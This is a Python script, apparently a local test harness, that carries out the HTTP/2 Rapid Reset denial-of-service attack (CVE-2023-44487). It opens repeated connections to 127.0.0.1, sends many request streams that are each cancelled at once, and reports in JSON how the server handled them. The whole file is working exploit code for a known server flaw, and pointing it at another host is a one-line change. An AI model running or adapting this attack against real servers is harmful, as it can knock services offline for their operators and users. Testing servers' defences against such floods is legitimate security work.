#!/usr/bin/env python3
"""HTTP/2 rapid reset across reconnects (CVE-2023-44487): opens CONNECTIONS connections one after another from
SOURCE, and on each sends STREAMS requests, every HEADERS followed at once by its RST_STREAM (CANCEL), and a PING,
all in one write; then reads until the PING's ACK (the server has read everything before it), a GOAWAY or the
close. Prints JSON:
{"sent": resets written, "resets": those written on connections the server sent SETTINGS on (it read them),
"served": such connections, "refused": connections closed before that, "goaways": {code: count}, "elapsed": seconds}.

usage: h2_rapid_reset.py PORT CONNECTIONS STREAMS [SOURCE_ADDRESS [PATH]]
"""
import json
import socket
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions


def attack(port, streams, source, path):
    """One connection; returns (server sent SETTINGS, GOAWAY code or None, resets sent)."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.bind((source, 0))
    sock.settimeout(10)
    sock.connect(("127.0.0.1", port))
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    headers = [(":method", "GET"), (":scheme", "http"), (":path", path), (":authority", "127.0.0.1")]
    resets = 0
    for _ in range(streams):
        stream = conn.get_next_available_stream_id()
        conn.send_headers(stream, headers, end_stream=True)
        conn.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
        resets += 1
    conn.ping(b"resetend")
    try:
        sock.sendall(conn.data_to_send())
    except OSError:
        return False, None, 0
    settings, goaway = False, None
    acked = False
    while not acked:
        try:
            data = sock.recv(65536)
        except OSError:
            break  # reset: closed at accept
        if not data:
            break
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            break
        for event in events:
            if isinstance(event, h2.events.RemoteSettingsChanged):
                settings = True
            elif isinstance(event, h2.events.PingAckReceived):
                acked = True
            elif isinstance(event, h2.events.ConnectionTerminated):
                goaway = int(event.error_code)
        if goaway is not None:
            break
    sock.close()
    return settings, goaway, resets


def main():
    port, connections, streams = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])
    source = sys.argv[4] if len(sys.argv) > 4 else "127.0.0.1"
    path = sys.argv[5] if len(sys.argv) > 5 else "/"
    result = {"sent": 0, "resets": 0, "served": 0, "refused": 0, "goaways": {}}
    start = time.monotonic()
    for _ in range(connections):
        settings, goaway, resets = attack(port, streams, source, path)
        result["sent"] += resets
        if settings:
            result["resets"] += resets
        result["served" if settings else "refused"] += 1
        if goaway is not None:
            result["goaways"][str(goaway)] = result["goaways"].get(str(goaway), 0) + 1
    result["elapsed"] = round(time.monotonic() - start, 3)
    print(json.dumps(result))


if __name__ == "__main__":
    main()
